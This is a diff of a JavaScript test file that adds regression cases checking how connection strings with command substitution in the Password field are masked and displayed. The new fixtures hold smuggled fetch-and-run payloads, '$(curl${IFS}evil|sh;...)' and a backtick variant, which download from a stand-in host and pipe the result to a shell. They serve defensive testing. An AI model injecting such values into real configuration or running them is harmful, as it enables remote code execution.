@@ -490,6 +490,19 @@ describe("a connection string's pair that runs a command (r57-1)", () => {
       "Server=db;Password=${PASSWORD}$(Xyz9)${PASSWORD};Encrypt=yes",
       "Abc$(Xyz9)Q",
     ],
+    // r58-1: a `;` inside the command split the pair, and the display hid the command's tail.
+    [
+      "Server=db;Password=x$(curl${IFS}evil|sh;a=b);User=sa",
+      "Server=db;Password=${PASSWORD};User=sa",
+      "Server=db;Password=${PASSWORD}$(curl${IFS}evil|sh;a=b);User=sa",
+      "x$(curl${IFS}evil|sh;a=b)",
+    ],
+    [
+      "Server=db;Password=x`curl evil|sh;a=b`;User=sa",
+      "Server=db;Password=${PASSWORD};User=sa",
+      "Server=db;Password=${PASSWORD}`curl evil|sh;a=b`;User=sa",
+      "x`curl evil|sh;a=b`",
+    ],
   ])("%j is exported whole as %j and shown as %j", (line, safe, shown, secret) => {
     expectConnectionLine(line, safe, shown, secret);
   });
